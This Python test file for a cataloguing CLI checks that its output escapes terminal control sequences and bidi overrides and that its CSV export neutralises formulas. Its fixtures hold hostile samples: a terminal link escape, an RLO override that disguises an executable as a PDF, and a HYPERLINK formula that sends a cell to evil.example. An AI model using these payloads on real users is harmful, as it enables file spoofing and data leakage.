"""Hostile titles and file names never reach a terminal raw; CSV never starts a formula.

Real files are ingested (a PDF, a web-page export, an ISO 2709 record) whose
names, titles and text hold terminal escapes (clear screen, an OSC 8 link, BEL,
a C1 CSI) and bidi overrides. (A C1 control inside a UTF-8 record is read as the
Windows-1252 character it usually is, by ftfy, so the C1 case goes through a file name.) Every human output of the CLI must show them as
visible escapes, and ``--json`` must give the exact text back.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from marcgen import unimarc_record, write_records
from pdfgen import french_pages, make_pdf
from recueil.catalogue.db import Catalogue
from recueil.catalogue.models import Document
from recueil.safetext import csv_cell, visible, visible_line

CLEAR = "\x1b[2J"
LINK = "\x1b]8;;https://evil.example/\x07cliquez ici\x1b]8;;\x07"
RLO = "\u202e"
C1_CSI = "\x9b31m"
# Raw control or bidi characters a terminal would act on (tab and newline are fine).
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

RECORD_TITLE = f"Cité éducative de Lens {CLEAR}{LINK} fdp.exe{RLO}cod.pdf\x07"
PDF_NAME = f"compte-rendu{CLEAR}{RLO}{C1_CSI}fdp.pdf"
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1;"Voir")'


@pytest.fixture
def hostile(run_cli: Any, tmp_path: Path) -> dict[str, Any]:
    """Ingest (with the index) a PDF, a web-page export and records with hostile text."""
    folder = tmp_path / "entrants"
    folder.mkdir()
    pdf_name = PDF_NAME
    make_pdf(folder / pdf_name, french_pages(1), metadata={"title": f"Réunion CPO {CLEAR}"})
    page = folder / "page\x1b]8;;evil\x07cliquez\x1b]8;;\x07\x07.txt"  # no "/" in a name
    page.write_text(
        f"Café des parents à Arras {LINK}\x07\n\nLe café des parents réunit les familles"
        " du quartier chaque mardi au collège.\n",
        encoding="utf-8",
    )
    write_records(
        folder / "notices.mrc",
        [
            unimarc_record("7001", [("200", [("a", RECORD_TITLE)])], charset_code="50"),
            unimarc_record("7002", [("200", [("a", FORMULA_TITLE)])], charset_code="50"),
            unimarc_record("7003", [("200", [("a", "-3 % d'absentéisme à Denain")])], "50"),
        ],
    )
    result = run_cli("ingest", "--no-tag", str(folder))
    return {"ingest": result, "folder": folder}


def assert_no_raw_control(text: str, where: str) -> None:
    found = RAW.findall(text)
    assert not found, f"{where}: raw {[hex(ord(c)) for c in found]}"


def outputs(result: Any) -> str:
    return result.stdout + result.stderr


def test_human_output_of_every_command_is_inert(
    run_cli: Any, catalogue: Catalogue, hostile: dict[str, Any]
) -> None:
    assert hostile["ingest"].exit_code == 0, outputs(hostile["ingest"])
    assert_no_raw_control(outputs(hostile["ingest"]), "ingest")
    assert "\\x1b[2J" in outputs(hostile["ingest"])  # the name is shown, made visible
    with catalogue.session() as session:
        ids = {d.external_id or d.filename: d.id for d in session.scalars(select(Document))}
    record_id = ids["unimarc:7001"]
    commands = {
        "list": ["list"],
        "show": ["show", str(record_id)],
        "show pdf": ["show", str(ids[PDF_NAME])],
        "runs": ["runs"],
        "runs 1": ["runs", "1"],
        "search": ["search", "Lens"],
        "search parents": ["search", "café parents"],
        "similar": ["similar", str(record_id)],
        "missing": ["show", "999"],
        "check": ["check"],
    }
    for name, args in commands.items():
        result = run_cli(*args)
        assert_no_raw_control(outputs(result), name)
    shown = run_cli("show", str(record_id)).stdout
    assert "\\x1b]8;;https://evil.example/\\x07cliquez ici" in shown and "\\u202e" in shown
    pdf_shown = run_cli("show", str(ids[PDF_NAME])).stdout
    assert "compte-rendu\\x1b[2J\\u202e\\x9b31mfdp.pdf" in pdf_shown


def test_json_keeps_the_exact_text(
    run_cli: Any, catalogue: Catalogue, hostile: dict[str, Any]
) -> None:
    with catalogue.session() as session:
        record = session.scalars(select(Document).where(Document.external_id == "unimarc:7001"))
        record_id = record.one().id
    shown = run_cli("show", str(record_id), "--json")
    assert_no_raw_control(shown.stdout, "show --json")  # escaped as \u001b, \u202e…
    assert json.loads(shown.stdout)["title"] == RECORD_TITLE
    listed = json.loads(run_cli("list", "--json").stdout)
    assert RECORD_TITLE in {row["title"] for row in listed}
    lines = run_cli("list", "--nl").stdout.splitlines()
    assert RECORD_TITLE in {json.loads(line)["title"] for line in lines}
    ingest = json.loads(run_cli("runs", "1", "--json").stdout)
    assert any(CLEAR in item["source"] for item in ingest)


def test_csv_neutralises_formulas(run_cli: Any, hostile: dict[str, Any]) -> None:
    for args in (["list", "--csv"], ["search", "Denain OR HYPERLINK", "--csv"]):
        rows = list(csv.DictReader(io.StringIO(run_cli(*args).stdout)))
        titles = {row["title"] for row in rows}
        assert "'" + FORMULA_TITLE in titles, args
        assert "'-3 % d'absentéisme à Denain" in titles
        assert not any(t.startswith(("=", "+", "-", "@")) for t in titles)
        assert all(row["id"].isdigit() for row in rows)  # numbers stay numbers
    exported = list(csv.DictReader(io.StringIO(run_cli("export", "--format", "csv").stdout)))
    assert "'" + FORMULA_TITLE in {row["title"] for row in exported}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-3", "'-3"),  # a string that looks like a number is still text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Lens", "Lens"),
    ],
)
def test_csv_cell(value: str, expected: str) -> None:
    assert csv_cell(value, value) == expected


def test_numbers_are_left_as_numbers() -> None:
    assert csv_cell(-3, "-3") == "-3" and csv_cell(-0.5, "-0.5") == "-0.5"


def test_visible_forms() -> None:
    assert visible(f"a{CLEAR}b\u202ec\x07\nd\te") == "a\\x1b[2Jb\\u202ec\\x07\nd\te"
    assert visible_line("a\nb\tc\rd") == "a b c\\x0dd"
    assert visible("Cité éducative – « Lens »") == "Cité éducative – « Lens »"
